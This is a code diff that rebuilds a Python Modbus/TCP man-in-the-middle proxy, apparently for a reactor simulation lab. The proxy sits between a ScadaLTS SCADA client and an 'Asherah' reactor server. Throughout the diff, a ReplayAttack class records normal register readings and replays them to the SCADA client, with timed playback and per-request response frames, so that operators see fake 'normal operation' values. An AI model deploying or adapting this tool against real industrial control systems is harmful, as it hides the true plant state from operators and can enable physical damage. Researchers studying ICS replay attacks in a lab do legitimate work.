@@ -10,14 +10,32 @@ Modes:
     - PASSTHROUGH : Transparent proxy (no modification)
     - RECORD      : Record normal traffic samples
     - REPLAY      : Replay previously recorded samples
+
+All client connections are served by a single asyncio event loop running
+in a background thread, so the proxy scales to hundreds of concurrent
+Modbus/TCP clients without one thread per socket. Clients are multiplexed
+over a few persistent upstream connections (see upstream_pool.py).
 """
 
+import asyncio
+import contextlib
+import json
+import os
 import socket
+import struct
 import threading
 import time
-import json
 import argparse
+from bisect import bisect_right
+from collections import namedtuple
 from datetime import datetime
+import numpy as np
+from modbus_framing import FramingError, read_frames
+from recording_format import COMPRESSED_SUFFIX, DEFAULT_WIDTH, Recording, RecordingWriter
+from upstream_pool import UpstreamPool
+from proxy_metrics import ProxyMetrics, serve_http, write_snapshots
+from modbus_pcap import PcapWriter, TcpSession
+from control_plane import CONTROL_SOCKET, CommandError, execute, parse_command, serve_control
 from pymodbus.client import ModbusTcpClient
 from pymodbus.server import StartTcpServer
 from pymodbus.datastore import ModbusSlaveContext, ModbusServerContext
@@ -28,100 +46,316 @@ from pymodbus.device import ModbusDeviceIdentification
 ASHERAH_IP = "172.20.0.10"
 ASHERAH_PORT = 502
 MITM_LISTEN_PORT = 5502
+RECORD_FILE = "recorded_values.rec"
+LISTEN_BACKLOG = 512
+UPSTREAM_CONNECTIONS = 2      # Persistent connections shared by all clients
+# Outstanding requests per upstream connection. Many Modbus servers (pymodbus
+# among them) answer only the first of several back-to-back requests, so
+# requests are forwarded one at a time per connection unless asked otherwise.
+UPSTREAM_MAX_IN_FLIGHT = 1
+MODES = ("PASSTHROUGH", "RECORD", "REPLAY")
+METRICS_HOST = "127.0.0.1"
+METRICS_PORT = 9102           # Prometheus endpoint, 0 to disable
+METRICS_INTERVAL = 10.0       # Seconds between NDJSON snapshots
+INSPECTED_FUNCTIONS = (0x03, 0x04)  # Responses RECORD/REPLAY look into; everything else is forwarded as-is
+
+
+# Published as a whole by set_mode()/switch_mode(): a response is intercepted entirely in
+# one state, never in a half-switched one
+ProxyState = namedtuple("ProxyState", "mode since generation")
+
+# Replay frames and timeline compiled from a recording by prepare_replay()
+ReplayPlan = namedtuple("ReplayPlan", "frames timestamps origin span")
+
+
+def set_nodelay(writer):
+    """Disable Nagle on a stream so small Modbus frames are not delayed."""
+    sock = writer.get_extra_info('socket')
+    if sock is not None:
+        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+
 
 class ReplayAttack:
     """Manage recording and replay of Modbus samples."""
     
-    def __init__(self, record_file="recorded_values.json"):
+    def __init__(self, record_file=RECORD_FILE):
         self.record_file = record_file
-        self.recorded_data = []
+        self.record_width = DEFAULT_WIDTH
+        self.recorded_data = Recording()
+        self.writer = None
+        self.samples_recorded = 0
         self.recording = False
         self.replaying = False
         self.replay_index = 0
         self.replay_loop = True
+        self.replay_timing = "sequential"  # "sequential": one sample per read, "timed": follow recorded timestamps
+        self.replay_speed = 1.0
+        self.replay_started = 0.0
+        self.replay_origin = 0.0   # First recorded timestamp
+        self.replay_span = 0.0     # Recorded timeline length, including the last sample's period
+        self.replay_frames = None  # signature -> (frames, frame size, frame count, timestamps), None for unkeyed recordings
+        self.replay_cursors = {}   # signature -> next frame of replay_frames[signature]
+        self.replay_timestamps = None  # Recording timestamps as a list, for timed replay without signatures
+        self.unmatched_signatures = set()
         
+    @property
+    def stream_file(self):
+        """Binary file samples are streamed to (JSON or .recz is exported on stop)."""
+        for suffix in (".json", COMPRESSED_SUFFIX):
+            if self.record_file.endswith(suffix):
+                return self.record_file[:-len(suffix)] + ".rec"
+        return self.record_file
+
     def start_recording(self):
-        """Start recording samples."""
+        """Start streaming samples to the record file."""
+        self.stop_recording()
+        self.writer = RecordingWriter(self.stream_file, width=self.record_width)
+        self.writer.start()
+        self.samples_recorded = 0
         self.recording = True
-        self.recorded_data = []
-        print(f"RECORDING started at {datetime.now()}")
+        print(f"RECORDING started at {datetime.now()} -> {self.stream_file}")
         
     def stop_recording(self):
-        """Stop recording and save to file."""
+        """Stop recording, finish writing the file and load it for replay."""
+        writer = self.detach_writer()
+        if writer is not None:
+            self.recorded_data = self.finish_recording(writer)
+
+    def detach_writer(self):
+        """Stop taking samples; returns the writer for finish_recording(), or None if not recording."""
+        if self.writer is None:
+            return None
         self.recording = False
-        self.save_recording()
-        print(f"RECORDING stopped. {len(self.recorded_data)} samples saved.")
+        writer, self.writer = self.writer, None
+        return writer
+
+    def finish_recording(self, writer):
+        """Write out what `writer` still queues and return the recording it wrote.
+
+        Blocking file I/O that touches no proxy state, so it may run in an
+        executor; the recording is also exported to record_file if that is
+        a JSON or .recz file.
+        """
+        writer.close()
+        if writer.dropped or writer.truncated:
+            print(f" {writer.dropped} samples dropped (writer queue full), {writer.truncated} truncated")
+        recording = Recording.load(writer.path)
+        if self.record_file != writer.path:
+            self.write_recording(recording, self.record_file)
+        print(f"RECORDING stopped. {writer.written} samples saved.")
+        return recording
         
-    def record_sample(self, registers, timestamp=None):
-        """Record a single sample (list of register values)."""
+    def record_sample(self, registers, timestamp=None, unit_id=0, function_code=0, address=0):
+        """Record a single sample (list of register values) and the read it answers."""
         if not self.recording:
             return
-            
-        sample = {
-            "timestamp": timestamp or time.time(),
-            "datetime": datetime.now().isoformat(),
-            "registers": registers
-        }
-        self.recorded_data.append(sample)
-        
+
+        if self.writer.put(timestamp or time.time(), registers, unit_id, function_code, address):
+            self.samples_recorded += 1
+
     def save_recording(self):
-        """Save the recorded samples to a JSON file."""
-        metadata = {
-            "recorded_at": datetime.now().isoformat(),
-            "duration_seconds": len(self.recorded_data) * 1.0,  # Assuming 1Hz
-            "sample_count": len(self.recorded_data),
-            "description": "Asherah reactor normal operation baseline"
-        }
-        
-        data = {
-            "metadata": metadata,
-            "samples": self.recorded_data
-        }
-        
-        with open(self.record_file, 'w') as f:
-            json.dump(data, f, indent=2)
-        print(f"Recording saved to {self.record_file}")
-        
+        """Save the recorded samples (binary format, JSON for a .json file, compressed for .recz)."""
+        if self.writer is not None:
+            print(f"Recording is being streamed to {self.writer.path} ({self.writer.written} samples on disk)")
+            return
+        self.write_recording(self.recorded_data, self.record_file)
+
+    @staticmethod
+    def write_recording(recording, path):
+        """Write `recording` to `path` in the format its suffix selects (blocking)."""
+        if path.endswith(".json"):
+            recording.to_json(path)
+        elif path.endswith(COMPRESSED_SUFFIX):
+            recording.save_compressed(path)
+        else:
+            recording.save(path)
+        print(f"Recording saved to {path}")
+
     def load_recording(self):
-        """Load a recording from a JSON file."""
+        """Load record_file (binary files are decoded, .recz decompressed, JSON imported)."""
+        recording = self.read_recording(self.record_file)
+        if recording is None:
+            return False
+        self.recorded_data = recording
+        return True
+
+    @staticmethod
+    def read_recording(path):
+        """Recording in `path`, or None if it cannot be read (blocking)."""
         try:
-            with open(self.record_file, 'r') as f:
-                data = json.load(f)
-            self.recorded_data = data.get("samples", [])
-            print(f"  Loaded {len(self.recorded_data)} samples from {self.record_file}")
-            print(f"   Recorded at: {data['metadata']['recorded_at']}")
-            print(f"   Duration: {data['metadata']['duration_seconds']}s")
-            return True
+            recording = Recording.load(path)
+            print(f"  Loaded {len(recording)} samples from {path}")
+            print(f"   Recorded at: {datetime.fromtimestamp(recording.created).isoformat()}")
+            print(f"   Duration: {recording.duration:.1f}s")
+            return recording
         except FileNotFoundError:
-            print(f" Recording file not found: {self.record_file}")
-            return False
+            print(f" Recording file not found: {path}")
+            return None
         except Exception as e:
             print(f" Error loading recording: {e}")
-            return False
-            
-    def start_replay(self, loop=True):
-        """Start replaying recorded samples."""
+            return None
+
+
+    def start_replay(self, loop=None, timing=None, speed=None, plan=None):
+        """Start replaying recorded samples.
+
+        Options left to None keep the current replay_loop, replay_timing
+        and replay_speed; `plan` is prepare_replay() of the recording,
+        computed here if not given. With timing="sequential" every
+        intercepted read gets the next recorded sample. With timing="timed" the wall-clock time since
+        replay start (times `speed`) is mapped onto the recorded timeline,
+        so the replayed process evolves as it did during recording
+        whatever the client's poll rate.
+        """
         if not self.recorded_data:
             print(" No recorded data to replay. Record first or load a file.")
             return False
-        
+        if loop is not None:
+            self.replay_loop = loop
+        if timing is not None:
+            self.replay_timing = timing
+        if speed is not None:
+            self.replay_speed = speed
+        if self.replay_speed <= 0:
+            print(" Replay speed must be positive")
+            return False
+
+        if plan is None:
+            plan = self.prepare_replay(self.recorded_data)
+        self.replay_frames = plan.frames
+        self.replay_cursors = dict.fromkeys(plan.frames or (), 0)
+        self.unmatched_signatures = set()
+        self.replay_timestamps = plan.timestamps
+        self.replay_origin = plan.origin
+        self.replay_span = plan.span
         self.replaying = True
         self.replay_index = 0
-        self.replay_loop = loop
-        print(f"   REPLAY started. {'Looping' if loop else 'One-shot'}")
+        self.replay_started = time.monotonic()
+        print(f"   REPLAY started. {'Looping' if self.replay_loop else 'One-shot'}")
+        if self.replay_timing == "timed":
+            print(f"   Following recorded timestamps at x{self.replay_speed:g} "
+                  f"({self.replay_span / self.replay_speed:.1f}s per pass)")
+        if self.replay_frames:
+            print(f"   {len(self.replay_frames)} request signatures indexed")
+        else:
+            print("   Recording has no request signatures, replaying in recorded order")
         return True
         
+    @staticmethod
+    def prepare_replay(recording):
+        """Compile the ReplayPlan of a non-empty recording (blocking, touches no proxy state)."""
+        # Give every polled block its own timeline, so each read gets
+        # the values that were recorded for that same read. Responses are
+        # serialized once here; replaying one only patches its transaction ID.
+        timestamps = recording.timestamps()
+        frames = {}
+        longest = []
+        for signature, rows in recording.signature_index().items():
+            unit_id, function_code, _, count = signature
+            if function_code in (0x03, 0x04):
+                rows = np.asarray(rows)
+                rows = rows[np.argsort(timestamps[rows], kind='stable')]
+                blob, frame_size = recording.compile_responses(rows, unit_id, function_code, count)
+                times = timestamps[rows].tolist()
+                frames[signature] = (blob, frame_size, len(rows), times)
+                if len(times) > len(longest):
+                    longest = times
+        replay_timestamps = None
+        if not frames:
+            longest = replay_timestamps = timestamps.tolist()
+
+        # The timeline runs from the first sample to one poll period after
+        # the last, so a looping replay holds the last values as long as
+        # the others before wrapping around.
+        origin = float(timestamps.min())
+        span = float(timestamps.max()) - origin
+        if len(longest) > 1:
+            span += float(np.median(np.diff(longest)))
+        return ReplayPlan(frames or None, replay_timestamps, origin, span)
+
     def stop_replay(self):
         """Stop replaying samples."""
         self.replaying = False
         print(f"   REPLAY stopped at sample {self.replay_index}/{len(self.recorded_data)}")
         
+    def get_replay_frame(self, transaction_id, unit_id, function_code, address, count):
+        """Return the next recorded response ADU for this read, or None.
+
+        Only available for recordings with request signatures. O(1): one
+        dict lookup, one slice of the precompiled frames and a 2-byte patch.
+        """
+        if not self.replaying or self.replay_frames is None:
+            return None
+
+        signature = (unit_id, function_code, address, count)
+        entry = self.replay_frames.get(signature)
+        if entry is None:
+            if signature not in self.unmatched_signatures:
+                self.unmatched_signatures.add(signature)
+                print(f"   No recording for unit {unit_id} FC{function_code:02d} "
+                      f"@{address} x{count}, passing real values")
+            return None
+
+        frames, frame_size, frame_count, timestamps = entry
+        if self.replay_timing == "timed":
+            cursor = self.timed_position(timestamps)
+            if cursor is None:
+                return None
+        else:
+            cursor = self.replay_cursors[signature]
+        start = cursor * frame_size
+        # Slicing copies the frame, so the shared precompiled bytes never
+        # change while an earlier copy may still sit in a transport buffer
+        frame = frames[start:start + frame_size]
+        frame[0:2] = transaction_id
+
+        self.replay_index += 1
+        if self.replay_timing == "timed":
+            return frame
+        cursor += 1
+        if cursor >= frame_count:
+            if self.replay_loop:
+                cursor = 0
+            else:
+                self.stop_replay()
+                print("   Replay finished (no loop)")
+        self.replay_cursors[signature] = cursor
+        return frame
+
+    def replay_progress(self):
+        """Position in the current replay pass, from 0 to 1."""
+        if self.replay_timing == "timed":
+            if not self.replay_span:
+                return 0.0
+            elapsed = (time.monotonic() - self.replay_started) * self.replay_speed
+            return min(elapsed % self.replay_span if self.replay_loop else elapsed, self.replay_span) / self.replay_span
+        total = len(self.recorded_data)
+        return self.replay_index % total / total if total else 0.0
+
+    def timed_position(self, timestamps):
+        """Index of the sample in `timestamps` (sorted) that is current now, or None once a one-shot replay is over."""
+        elapsed = (time.monotonic() - self.replay_started) * self.replay_speed
+        if elapsed >= self.replay_span:
+            if not self.replay_loop:
+                self.stop_replay()
+                print("   Replay finished (no loop)")
+                return None
+            elapsed = elapsed % self.replay_span if self.replay_span else 0.0
+        return max(bisect_right(timestamps, self.replay_origin + elapsed) - 1, 0)
+
     def get_replay_values(self):
-        """Return the next set of register values to replay."""
+        """Return the next set of register values to replay (recorded order)."""
         if not self.replaying or not self.recorded_data:
             return None
-            
-        sample = self.recorded_data[self.replay_index]
+
+        if self.replay_timing == "timed":
+            position = self.timed_position(self.replay_timestamps)
+            if position is None:
+                return None
+            self.replay_index += 1
+            return self.recorded_data.registers(position)
+
+        registers = self.recorded_data.registers(self.replay_index)
         self.replay_index += 1
         
         # Loop if requested
@@ -133,213 +367,454 @@ class ReplayAttack:
                 self.stop_replay()
                 print("   Replay finished (no loop)")
                 
-        return sample["registers"]
+        return registers
 
 
 class ModbusMITM:
     """Modbus Man-in-the-Middle proxy."""
     
-    def __init__(self, target_ip, target_port, listen_port):
+    def __init__(self, target_ip, target_port, listen_port,
+                 upstream_connections=UPSTREAM_CONNECTIONS, max_in_flight=UPSTREAM_MAX_IN_FLIGHT):
         self.target_ip = target_ip
         self.target_port = target_port
         self.listen_port = listen_port
+        self.upstream = UpstreamPool(target_ip, target_port, upstream_connections, max_in_flight,
+                                     on_response=self.deliver_response)
         self.replay_attack = ReplayAttack()
-        self.mode = "PASSTHROUGH"  # PASSTHROUGH, RECORD, REPLAY
+        self.state = ProxyState("PASSTHROUGH", time.time(), 0)  # Mode: PASSTHROUGH, RECORD, REPLAY
+        self.control_socket = CONTROL_SOCKET
         self.running = False
+        self.loop = None
+        self._stop_event = None
+        self.clients = set()  # Writers of open client connections
+        self.switching = asyncio.Lock()  # Held by mode switches, loads and saves while they await file I/O
+
+        # Instrumentation
+        self.metrics = ProxyMetrics()
+        self.metrics_port = METRICS_PORT
+        self.metrics_file = None
+        self.metrics_interval = METRICS_INTERVAL
+        self.pcap_file = None
+        self.pcap = None            # PcapWriter of the client sessions, while serving with pcap_file set
+        self.pcap_sessions = {}     # client writer -> TcpSession
         
-    def proxy_modbus_request(self, client_socket):
-        """Proxy Modbus requests between ScadaLTS and Asherah."""
+    @property
+    def mode(self):
+        return self.state.mode
+
+    async def proxy_modbus_request(self, client_reader, client_writer):
+        """Proxy Modbus requests between ScadaLTS and Asherah.
+
+        Requests are forwarded through the shared upstream pool as soon as
+        they arrive, so a client may keep several transactions outstanding.
+        Responses come back through deliver_response().
+        """
         try:
-            # Connect to the real Asherah server
-            server_socket = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-            server_socket.connect((self.target_ip, self.target_port))
-            
-            while self.running:
-                # Receive the request from the client (ScadaLTS)
-                data = client_socket.recv(4096)
-                if not data:
+            # Reassemble whole ADUs: TCP may split or coalesce frames
+            async for request in read_frames(client_reader):
+                if not self.running:
                     break
-                
-                # Send the request to the server (Asherah)
-                server_socket.sendall(data)
-                
-                # Receive the response from the server
-                response = server_socket.recv(4096)
-                
-                # === INTERCEPTION HERE ===
-                modified_response = self.intercept_response(response)
-                
-                # Send the response (modified or not) to the client
-                client_socket.sendall(modified_response)
-                
-        except Exception as e:
+                self.metrics.request(request)
+                if self.pcap is not None and client_writer in self.pcap_sessions:
+                    self.pcap_sessions[client_writer].send(time.time(), True, request)
+                await self.upstream.submit(client_writer, request)
+
+        except (OSError, FramingError) as e:
             print(f" Proxy error: {e}")
         finally:
-            client_socket.close()
-            server_socket.close()
-            
-    def intercept_response(self, response):
-        """Intercept and optionally modify Modbus responses."""
+            client_writer.close()
+
+    def deliver_response(self, client_writer, response, request, queued_at, sent_at):
+        """Pool callback: intercept a matched response and send it to its client.
+
+        `response` is a view into the pool's receive buffer. Frames the
+        current mode does not look at (any frame in PASSTHROUGH, writes and
+        bit reads otherwise) are written out from it without being parsed.
+        """
+        received_at = time.perf_counter()
+        mode = self.state.mode
+
+        # === INTERCEPTION HERE ===
+        if mode != "PASSTHROUGH" and len(response) > 7 and response[7] in INSPECTED_FUNCTIONS:
+            modified_response = self.intercept_response(response, request)
+        else:
+            modified_response = response
+
+        # Send the response (modified or not) to the client
+        client_writer.write(modified_response)
+        if self.pcap is not None and client_writer in self.pcap_sessions:
+            self.pcap_sessions[client_writer].send(time.time(), False, modified_response)
+        self.metrics.response(mode, modified_response, modified_response is not response,
+                              queued_at, sent_at, received_at, time.perf_counter())
+
+    def intercept_response(self, response, request=None):
+        """Intercept and optionally modify one complete Modbus/TCP response ADU.
+
+        `request` is the matching request ADU, or None if it is unknown.
+        """
         if len(response) < 9:
             return response  # Too short to be a valid Modbus response
         
         # Parse Modbus response (simplified)
         # Format: [Transaction ID (2)] [Protocol ID (2)] [Length (2)] [Unit ID (1)] [Function (1)] [Data...]
-        transaction_id = response[0:2]
-        protocol_id = response[2:4]
-        length = int.from_bytes(response[4:6], 'big')
         unit_id = response[6]
         function_code = response[7]
         
         # We are interested in read responses (function 03 or 04)
-        if function_code not in [0x03, 0x04]:
+        if function_code not in INSPECTED_FUNCTIONS:
             return response
+        mode = self.state.mode
         
         byte_count = response[8]
-        register_data = response[9:9+byte_count]
-        
-        # Convert into a list of 16-bit registers
-        registers = []
-        for i in range(0, len(register_data), 2):
-            if i+1 < len(register_data):
-                reg_value = int.from_bytes(register_data[i:i+2], 'big')
-                registers.append(reg_value)
-        
+        if byte_count % 2 or 9 + byte_count > len(response):
+            return response  # Short or inconsistent read response, forward it uninspected
+        count = byte_count // 2
+
+        # The matched request tells which block these registers belong to
+        address = int.from_bytes(request[8:10], 'big') if request is not None and len(request) >= 12 else 0
+
         # === MODE RECORD ===
-        if self.mode == "RECORD":
-            self.replay_attack.record_sample(registers)
-            if len(self.replay_attack.recorded_data) % 10 == 0:
-                print(f"  Recording... {len(self.replay_attack.recorded_data)} samples")
+        if mode == "RECORD":
+            registers = list(struct.unpack_from(f">{count}H", response, 9))
+            self.replay_attack.record_sample(registers, unit_id=unit_id, function_code=function_code, address=address)
+            if self.replay_attack.samples_recorded % 10 == 0:
+                print(f"  Recording... {self.replay_attack.samples_recorded} samples")
         
         # === MODE REPLAY ===
-        elif self.mode == "REPLAY":
-            replay_values = self.replay_attack.get_replay_values()
-            if replay_values:
-                # Rebuild Modbus response with the replayed values
-                new_register_data = b''
-                for val in replay_values[:len(registers)]:  # Same number of registers
-                    new_register_data += val.to_bytes(2, 'big')
-
-                # Rebuild the full response
-                new_response = (
-                    transaction_id +
-                    protocol_id +
-                    length.to_bytes(2, 'big') +
-                    bytes([unit_id, function_code, byte_count]) +
-                    new_register_data
-                )
-
-                if len(self.replay_attack.recorded_data) > 0:
-                    progress = (self.replay_attack.replay_index / len(self.replay_attack.recorded_data)) * 100
-                    if self.replay_attack.replay_index % 10 == 0:
-                        print(f"   Replaying... {progress:.1f}%")
+        elif mode == "REPLAY":
+            replay_attack = self.replay_attack
+            if replay_attack.replay_frames is not None:
+                # Precompiled response for this exact read
+                new_response = replay_attack.get_replay_frame(response[0:2], unit_id, function_code, address, count)
+            else:
+                # Unkeyed recording: fit the next recorded values into this response
+                replay_values = replay_attack.get_replay_values()
+                new_response = None
+                if replay_values and len(replay_values) >= count:
+                    new_response = bytes(response[0:9]) + struct.pack(f">{count}H", *replay_values[:count])
 
+            if new_response is not None:
+                if replay_attack.replay_index % 10 == 0:
+                    print(f"   Replaying... {replay_attack.replay_progress() * 100:.1f}%")
                 return new_response
         
         # === MODE PASSTHROUGH (default) ===
         return response
     
-    def start_server(self):
-        """Start the proxy server and accept connections."""
+    async def handle_client(self, client_reader, client_writer):
+        """Accept callback: one coroutine per client connection."""
+        print(f"Connection from {client_writer.get_extra_info('peername')}")
+        set_nodelay(client_writer)
+        self.clients.add(client_writer)
+        self.metrics.connection_opened()
+        if self.pcap is not None:
+            session = TcpSession(self.pcap, client_writer.get_extra_info('peername'),
+                                 client_writer.get_extra_info('sockname'))
+            session.open(time.time())
+            self.pcap_sessions[client_writer] = session
+        try:
+            await self.proxy_modbus_request(client_reader, client_writer)
+        finally:
+            self.clients.discard(client_writer)
+            self.metrics.connection_closed()
+            session = self.pcap_sessions.pop(client_writer, None)
+            if session is not None:
+                session.close(time.time())
+                self.pcap.flush()
+
+    def metric_gauges(self):
+        """Proxy state sampled when metrics are exported: {name: (value, help)}."""
+        replay_attack = self.replay_attack
+        writer = replay_attack.writer
+        pool = self.upstream.stats()
+        return {
+            "mode": ([(f'{{mode="{m}"}}', int(m == self.mode)) for m in ("PASSTHROUGH", "RECORD", "REPLAY")],
+                     "Current proxy mode (1 for the active one)"),
+            "record_queue_depth": (writer.depth if writer else 0, "Samples waiting for the recording writer"),
+            "record_samples_written": (writer.written if writer else 0, "Samples written by the current recording"),
+            "record_samples_dropped": (writer.dropped if writer else 0, "Samples dropped because the writer queue was full"),
+            "replay_progress": (replay_attack.replay_progress() if replay_attack.replaying else 0.0,
+                                "Position in the current replay pass (0-1)"),
+            "replay_responses": (replay_attack.replay_index, "Responses served from the recording in this replay"),
+            "replay_signatures": (len(replay_attack.replay_frames or ()), "Read signatures available for replay"),
+            "upstream_connected": (pool["connected"], "Open upstream connections"),
+            "upstream_in_flight": (pool["in_flight"], "Requests forwarded and awaiting a response"),
+            "upstream_queued": (pool["queued"], "Requests waiting for an upstream slot"),
+            "upstream_timeouts": (pool["timeouts"], "Requests given up after no upstream response (client got 0x0B)"),
+            "upstream_utilisation": (pool["mean_utilisation"], "Mean fraction of upstream slots in use"),
+        }
+
+    def status(self):
+        """JSON-friendly snapshot of the proxy state (control plane "status")."""
+        replay_attack = self.replay_attack
+        writer = replay_attack.writer
+        status = {
+            "mode": self.state.mode,
+            "mode_since": self.state.since,
+            "generation": self.state.generation,
+            "clients": self.metrics.connections_active,
+            "record_file": replay_attack.record_file,
+            "samples_loaded": len(replay_attack.recorded_data),
+            "recording": None,
+            "replay": None,
+            "upstream": self.upstream.stats(),
+            "upstream_rtt_ms": self.metrics.upstream_rtt.summary(),
+            "proxy_overhead_ms": self.metrics.proxy_overhead.summary(),
+        }
+        if replay_attack.recording:
+            status["recording"] = {
+                "file": writer.path,
+                "samples": replay_attack.samples_recorded,
+                "written": writer.written,
+                "queued": writer.depth,
+                "dropped": writer.dropped,
+            }
+        if replay_attack.replaying:
+            status["replay"] = {
+                "progress": replay_attack.replay_progress(),
+                "responses": replay_attack.replay_index,
+                "timing": replay_attack.replay_timing,
+                "speed": replay_attack.replay_speed,
+                "loop": replay_attack.replay_loop,
+                "signatures": len(replay_attack.replay_frames or ()),
+                "unmatched_signatures": len(replay_attack.unmatched_signatures),
+            }
+        return status
+
+    def control(self, command):
+        """Run a control command dict and return its reply, blocking until it is done.
+
+        While the proxy runs, the command is executed on its event loop
+        and this must be called from another thread; on the loop itself,
+        await control_plane.execute() instead.
+        """
+        loop = self.loop
+        if loop is None or not loop.is_running():
+            return asyncio.run(execute(self, command))
+        try:
+            running = asyncio.get_running_loop()
+        except RuntimeError:
+            running = None  # Called from a thread without an event loop
+        if running is loop:
+            raise RuntimeError("control() would block the proxy's event loop; await execute() instead")
+        return asyncio.run_coroutine_threadsafe(execute(self, command), loop).result()
+
+    def render_metrics(self):
+        return self.metrics.prometheus(self.metric_gauges())
+
+    def metrics_snapshot(self):
+        gauges = self.metric_gauges()
+        del gauges["mode"]
+        snapshot = self.metrics.snapshot(gauges)
+        snapshot["mode"] = self.mode
+        return snapshot
+
+    async def serve(self):
+        """Run the proxy on the current event loop until stop() is called."""
+        self.loop = asyncio.get_running_loop()
+        self._stop_event = asyncio.Event()
         self.running = True
-        server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-        server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
-        server.bind(('0.0.0.0', self.listen_port))
-        server.listen(5)
-        
+        server = await asyncio.start_server(
+            self.handle_client, '0.0.0.0', self.listen_port,
+            reuse_address=True, backlog=LISTEN_BACKLOG
+        )
+
         print(f"   MITM Server listening on 0.0.0.0:{self.listen_port}")
         print(f"   Proxying to {self.target_ip}:{self.target_port}")
         print(f"   Mode: {self.mode}")
-        
-        while self.running:
+
+        metrics_server = None
+        if self.metrics_port:
             try:
-                client_socket, addr = server.accept()
-                print(f"Connection from {addr}")
-                thread = threading.Thread(target=self.proxy_modbus_request, args=(client_socket,))
-                thread.daemon = True
-                thread.start()
-            except KeyboardInterrupt:
-                break
-        
-        server.close()
-        
-    def set_mode(self, mode):
-        """Change the operating mode."""
-        valid_modes = ["PASSTHROUGH", "RECORD", "REPLAY"]
-        if mode.upper() not in valid_modes:
-            print(f" Invalid mode. Choose from {valid_modes}")
+                metrics_server = await serve_http(METRICS_HOST, self.metrics_port, self.render_metrics)
+                print(f"   Metrics on http://{METRICS_HOST}:{self.metrics_port}/metrics")
+            except OSError as e:
+                print(f" Metrics endpoint disabled: {e}")
+        control_server = None
+        if self.control_socket:
+            try:
+                control_server = await serve_control(self.control_socket, self)
+                print(f"   Control socket: {self.control_socket}")
+            except OSError as e:
+                print(f" Control socket disabled: {e}")
+        snapshots = None
+        if self.metrics_file:
+            snapshots = asyncio.create_task(
+                write_snapshots(self.metrics_file, self.metrics_interval, self.metrics_snapshot))
+            print(f"   Metrics snapshots every {self.metrics_interval:g}s -> {self.metrics_file}")
+        if self.pcap_file:
+            self.pcap = PcapWriter(self.pcap_file)
+            print(f"   Capturing client sessions -> {self.pcap_file}")
+
+        async with server:
+            await self._stop_event.wait()
+            self.running = False
+            # Closing the clients lets their handlers end on EOF instead of
+            # being cancelled mid-read when the server shuts down
+            for client_writer in list(self.clients):
+                client_writer.close()
+            await asyncio.sleep(0)
+        if self.pcap is not None:
+            for session in self.pcap_sessions.values():
+                session.close(time.time())
+            self.pcap_sessions.clear()
+            self.pcap.close()
+            self.pcap = None
+        if snapshots is not None:
+            snapshots.cancel()
+            await asyncio.gather(snapshots, return_exceptions=True)
+        if metrics_server is not None:
+            metrics_server.close()
+        if control_server is not None:
+            control_server.close()
+            with contextlib.suppress(OSError):
+                os.unlink(self.control_socket)
+        await self.upstream.close()
+
+    def start_server(self):
+        """Start the proxy server and accept connections (blocking)."""
+        asyncio.run(self.serve())
+
+    def stop(self):
+        """Stop the proxy. Safe to call from any thread."""
+        self.running = False
+        if self.loop is not None and self._stop_event is not None:
+            self.loop.call_soon_threadsafe(self._stop_event.set)
+
+    def set_mode(self, mode, **replay_options):
+        """Change the operating mode, blocking until it is set up.
+
+        For use before the proxy starts; while it runs, use switch_mode()
+        (control() does), which keeps the file I/O off the event loop.
+        Leaving RECORD finishes the recording and leaving REPLAY stops the
+        replay. `replay_options` (loop, timing, speed) go to start_replay()
+        when switching to REPLAY.
+        """
+        mode = mode.upper()
+        if mode not in MODES:
+            print(f" Invalid mode. Choose from {list(MODES)}")
             return False
-        
-        self.mode = mode.upper()
-        print(f"Mode changed to: {self.mode}")
-        
-        if self.mode == "RECORD":
-            self.replay_attack.start_recording()
-        elif self.mode == "REPLAY":
-            if not self.replay_attack.start_replay():
-                self.mode = "PASSTHROUGH"
-                return False
-        
-        return True
+        self.replay_attack.stop_recording()
+        return self._apply_mode(mode, replay_options)
+
+    async def switch_mode(self, mode, **replay_options):
+        """set_mode() on the running proxy's event loop.
+
+        Finishing a recording and compiling the replay frames run in an
+        executor, so responses keep flowing meanwhile; the current mode
+        (a replay keeps replaying) stays in effect until the new one is
+        ready. Mode switches, loads and saves are serialized by
+        self.switching.
+        """
+        mode = mode.upper()
+        if mode not in MODES:
+            print(f" Invalid mode. Choose from {list(MODES)}")
+            return False
+        loop = asyncio.get_running_loop()
+        replay_attack = self.replay_attack
+        async with self.switching:
+            writer = replay_attack.detach_writer()
+            if writer is not None:
+                replay_attack.recorded_data = await loop.run_in_executor(
+                    None, replay_attack.finish_recording, writer)
+            plan = None
+            if mode == "REPLAY" and replay_attack.recorded_data:
+                plan = await loop.run_in_executor(None, replay_attack.prepare_replay, replay_attack.recorded_data)
+            return self._apply_mode(mode, replay_options, plan)
+
+    def _apply_mode(self, mode, replay_options, plan=None):
+        """Set up `mode` once any recording is finished, and publish it with a single assignment of self.state."""
+        replay_attack = self.replay_attack
+        if replay_attack.replaying:
+            replay_attack.stop_replay()
+
+        ok = True
+        if mode == "RECORD":
+            replay_attack.start_recording()
+        elif mode == "REPLAY" and not replay_attack.start_replay(plan=plan, **replay_options):
+            mode = "PASSTHROUGH"
+            ok = False
+
+        self.state = ProxyState(mode, time.time(), self.state.generation + 1)
+        print(f"Mode changed to: {mode}")
+        return ok
+
+
+def print_status(status):
+    """Human-readable rendering of a control plane "status" reply."""
+    print(f"\nStatus:")
+    print(f"   Mode: {status['mode']}")
+    recording = status['recording']
+    replay = status['replay']
+    print(f"   Recording: {recording is not None}")
+    print(f"   Replaying: {replay is not None}")
+    if recording:
+        print(f"   Samples recorded: {recording['samples']} "
+              f"({recording['written']} on disk, {recording['queued']} queued, {recording['dropped']} dropped)")
+    else:
+        print(f"   Samples loaded: {status['samples_loaded']}")
+    if replay:
+        print(f"   Replay progress: {replay['progress']:.1%} ({replay['responses']} responses replayed, "
+              f"{replay['timing']} x{replay['speed']:g})")
+        if replay['signatures']:
+            print(f"   Replay signatures: {replay['signatures']} "
+                  f"({replay['unmatched_signatures']} unmatched reads seen)")
+    pool = status['upstream']
+    print(f"   Upstream pool: {pool['connected']}/{pool['connections']} connected, "
+          f"in flight {pool['in_flight']}/{pool['capacity']} ({pool['queued']} queued, {pool['timeouts']} timed out)")
+    print(f"   Pool utilisation: {pool['utilisation']:.0%} now, {pool['mean_utilisation']:.0%} mean")
